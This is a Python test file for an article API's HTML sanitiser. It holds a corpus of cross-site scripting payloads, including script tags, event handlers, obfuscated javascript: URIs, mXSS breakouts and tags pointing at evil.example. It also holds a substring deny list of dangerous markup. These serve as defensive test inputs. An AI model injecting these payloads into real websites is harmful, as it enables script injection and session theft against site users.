"""What an editor submits is sanitised before it is stored, whatever they send."""

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from api.articles.body import sanitise_html

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="https://ok.example/a.png" onerror="alert(1)">',
    '<p onclick="alert(1)" onmouseover=alert(1)>hi</p>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="x">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<form action="https://evil.example/"><input name="q"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    "<!--<script>alert(1)</script>-->",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '"><img src=x onerror=alert(1)>',
]
DANGEROUS = ("<script", "onerror", "onload", "onclick", "onmouseover", "javascript:",
             "vbscript:", "data:", "<svg", "<iframe", "<object", "<embed", "<style",
             "style=", "<form", "<meta", "<base", "srcdoc")  # fmt: skip


@pytest.mark.parametrize("payload", XSS)
def test_xss_corpus_is_neutralised_in_stored_html(client, as_, payload):
    for field, body in (("body_html", payload), ("body_markdown", payload)):
        response = client.post(
            "/v1/admin/articles", json={"title": f"T {field}", field: body}, headers=as_("editor")
        )
        assert response.status_code == 201, response.text
        stored = response.json()["data"]["body_html"].lower()
        for needle in DANGEROUS:
            assert needle not in stored, (payload, field, stored)
        client.delete(f"/v1/admin/articles/{response.json()['data']['id']}", headers=as_("admin"))


def test_links_opening_elsewhere_get_rel_noopener(client, as_):
    response = client.post(
        "/v1/admin/articles",
        json={"title": "Links", "body_markdown": "[HRW](https://hrw.org/report)"},
        headers=as_("editor"),
    )
    html = response.json()["data"]["body_html"]
    assert 'href="https://hrw.org/report"' in html
    assert 'rel="noopener noreferrer"' in html


def test_allowed_markup_survives():
    html = (
        "<h2>Head</h2><p><em>a</em> <strong>b</strong></p><blockquote>q</blockquote>"
        '<figure><img src="https://i.example/a.png" alt="A"><figcaption>c</figcaption></figure>'
        "<ul><li>x</li></ul><pre><code>y</code></pre>"
    )
    assert sanitise_html(html) == html


HTMLISH = st.text(
    alphabet=st.sampled_from(list("<>/=\"' \t\nabcdehilmnoprstvx:;&#0123456789-")),
    max_size=120,
) | st.lists(
    st.sampled_from(XSS + ["<p>", "</p>", "<a href=", "https://x.example/", ">", "<b>", "&amp;"]),
    max_size=8,
).map("".join)


@settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))
@given(HTMLISH)
def test_sanitising_twice_equals_sanitising_once(raw):
    once = sanitise_html(raw)
    assert sanitise_html(once) == once
